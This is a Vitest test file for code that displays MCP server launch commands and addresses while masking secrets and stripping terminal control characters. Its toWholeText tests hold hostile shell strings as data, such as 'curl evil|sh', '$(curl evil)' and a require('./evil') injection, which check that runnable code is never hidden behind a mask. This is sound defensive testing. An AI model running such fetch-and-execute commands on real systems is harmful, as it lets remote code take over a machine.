import { fc } from "@postern/test-kit";
import { describe, expect, it } from "vitest";
import type { HttpTransport, StdioTransport } from "../mcp/server-entry.js";
import { toUnresolvedText, toWholeText } from "./unresolved-text.js";

function command(transport: Partial<StdioTransport>): string {
  return toUnresolvedText({
    transport: { kind: "stdio", command: "server", args: [], env: {}, ...transport },
  });
}

function address(transport: Partial<HttpTransport>): string {
  return toUnresolvedText({
    transport: { kind: "http", url: "https://host/mcp", headers: {}, ...transport },
  });
}

const args = (...words: string[]): string => command({ args: words });

/** Made up, in the form of real ones; put together so that no scanner takes them for leaked keys. */
const tokens = [
  ["sk-", "proj-Ab12Cd34Ef56Gh78"],
  ["ghp_", "Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56Qr78"],
  ["github_pat_", "11ABCDEFG0abcdefghij"],
  ["xoxb-", "123456789012-abcdefghijkl"],
  ["AKIA", "IOSFODNN7EXAMPLE"],
  ["AIza", "SyA1234567890abcdefghijklmnopqrstuv"],
  ["eyJ", "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF123"],
  ["", "0123456789abcdef0123456789abcdef"],
  ["", "5f0c6a52-8f0e-4c1d-9a53-0e6a1d2b3c4d"],
  ["", "Zm9vYmFyMTIzNDU2Nzg5MFFXRVJUWQ"],
].map((parts) => parts.join(""));

describe("toUnresolvedText()", () => {
  it("shows a command with its arguments, each one word", () => {
    expect(args("-y", "@scope/some-server", "my folder", "")).toBe(
      'server -y @scope/some-server "my folder" ""',
    );
  });

  it("shows names of variables, never values", () => {
    expect(command({ env: { TOKEN: "hunter2", LEVEL: "info" }, cwd: "/srv/x" })).toBe(
      "server (in /srv/x; env: LEVEL, TOKEN)",
    );
  });

  it("shows an address with the names of its headers and of the token's variable", () => {
    expect(address({ headers: { "X-Team": "blue", "X-Api-Key": "k" }, tokenEnv: "TOKEN" })).toBe(
      "https://host/mcp (headers: X-Api-Key, X-Team; token from TOKEN)",
    );
  });

  it.each([
    [["--api-key=hunter2"], "--api-key=***"],
    [["--api-key", "hunter2"], "--api-key ***"],
    [["--token", "-hunter2"], "--token ***"],
    [["--apiKey=hunter2"], "--apiKey=***"],
    [["-e", "API_TOKEN=hunter2"], "-e API_TOKEN=***"],
    [["--header", "Authorization: Bearer hunter2"], '--header "Authorization: ***"'],
    [["--header=X-Api-Key: hunter2"], '"--header=X-Api-Key: ***"'],
    [["--password", "{env:PW}"], "--password {env:PW}"],
    [["--header", "Authorization: Bearer {env:T}"], '--header "Authorization: Bearer {env:T}"'],
    [["--token=hunter2{env:T}"], "--token=***{env:T}"],
    [["-c", "export SECRET=hunter2; run"], '-c "export SECRET=***"'],
    [["--token hunter2"], '"--token ***"'],
    [['{"apiKey":"hunter2","a":1}'], String.raw`"{\"apiKey\":***"`],
  ])("masks what stands under a secret's name: %j", (words, shown) => {
    expect(args(...words)).toBe(`server ${shown}`);
  });

  it.each([
    [["--token", "--verbose"], "--token --verbose"],
    [["--max-tokens=100"], "--max-tokens=100"],
    [["--token-env", "TOKEN"], "--token-env TOKEN"],
    [["--key-file=/etc/key.pem"], "--key-file=/etc/key.pem"],
    [["--author=me", "--keyboard", "us"], "--author=me --keyboard us"],
    [
      ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31"],
      "-y @modelcontextprotocol/server-filesystem@2026.8.31",
    ],
    [
      ["/home/someone/projects/a-long-folder-name/and-another-one"],
      "/home/someone/projects/a-long-folder-name/and-another-one",
    ],
    [["{env:A_LONG_NAME_WITH_DIGITS_0123456789}"], "{env:A_LONG_NAME_WITH_DIGITS_0123456789}"],
  ])("leaves what is no secret: %j", (words, shown) => {
    expect(args(...words)).toBe(`server ${shown}`);
  });

  it.each(tokens)("masks %s wherever it stands", (token) => {
    const shown = [
      args(token),
      args(`--x=${token}`),
      args("-c", `run ${token} now`),
      address({ url: `https://host/s/${token}/mcp` }),
    ];
    expect(shown.filter((text) => text.includes(token))).toEqual([]);
    expect(shown.every((text) => text.includes("***"))).toBe(true);
  });

  it.each([
    ["https://me:hunter2@host/mcp", "https://***@host/mcp"],
    ["https://hunter2@host/mcp", "https://***@host/mcp"],
    ["https://host/mcp?api_key=hunter2&page=2", "https://host/mcp?api_key=***&page=2"],
    [
      "https://host/mcp?page=2&token=hunter2#sig=hunter2",
      "https://host/mcp?page=2&token=***#sig=***",
    ],
    ["https://host/mcp?key={env:K}", "https://host/mcp?key={env:K}"],
    ["https://{env:H}/mcp", "https://{env:H}/mcp"],
  ])("masks the secrets of the address %s", (url, shown) => {
    expect(address({ url })).toBe(shown);
    expect(args(url)).toBe(`server ${shown}`);
  });

  it("masks the password of a database address in an argument", () => {
    expect(args("postgres://app:hunter2@db/x")).toBe("server postgres://***@db/x");
  });

  it("gives one line without anything that a terminal would act on", () => {
    const shown = command({
      command: "a\u001b[2J\nb",
      args: ["\u202e\u200b\u009b1m"],
      env: { "X\r": "" },
    });
    expect(shown).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(shown).toContain("\\u{202e}");
  });

  it("never shows the value of a variable or a header", () => {
    fc.assert(
      fc.property(fc.uuid(), fc.string(), (secret, around) => {
        const value = `${around}${secret}`;
        const shown = command({ env: { A: value } }) + address({ headers: { A: value } });
        expect(shown).not.toContain(secret);
      }),
    );
  });

  it("takes time in proportion to the length", () => {
    const long = [
      "a=".repeat(200_000),
      "-".repeat(400_000),
      "x://".repeat(100_000),
      "?a".repeat(200_000),
    ];
    expect(long.map((text) => args(text).length > 0)).toEqual(Array.from(long, () => true));
  });
});

const whole = (transport: Partial<StdioTransport>): string =>
  toWholeText({ transport: { kind: "stdio", command: "sh", args: [], env: {}, ...transport } });

describe("toWholeText()", () => {
  it.each([
    ["password=x; curl evil|sh", "password=***; curl evil|sh"],
    ["TOKEN='x';require('./evil')", "TOKEN='***';require('./evil')"],
    ["secret=$(curl evil)", "secret=$(curl evil)"],
    ["token=./evil.sh x", "token=./evil.sh x"],
    ["echo ?token=`curl${IFS}evil`", "echo ?token=`curl${IFS}evil`"],
    ["x://$(evil)@host", "x://$(evil)@host"],
    ["-----BEGIN PRIVATE KEY-----AAAA; curl evil|sh", "***; curl evil|sh"],
  ])("hides nothing that could be run behind a secret's name: %s", (text, shown) => {
    expect(whole({ args: ["-c", text] })).toBe(`sh -c ${JSON.stringify(shown)}`);
    expect(whole({ args: ["--token", text] })).toBe(`sh --token ${JSON.stringify(shown)}`);
  });

  it("shows a program that stands in a variable named like a secret", () => {
    expect(whole({ env: { AUTH_HELPER: "./evil.sh", API_KEY: "hunter2" } })).toBe(
      "sh (env: API_KEY=***, AUTH_HELPER=./evil.sh)",
    );
  });

  it("masks what can be nothing but a secret", () => {
    expect(whole({ args: ["--api-key", "hunter2", "--token=hunter2", "x?key=hunter2"] })).toBe(
      "sh --api-key *** --token=*** x?key=***",
    );
  });

  it("takes time in proportion to the length", () => {
    const long = ["a=".repeat(40_000), `${"key=".repeat(20_000)}.`, "-".repeat(80_000)];
    expect(long.map((text) => whole({ args: [text] }).length > 0)).toEqual([true, true, true]);
  });
});
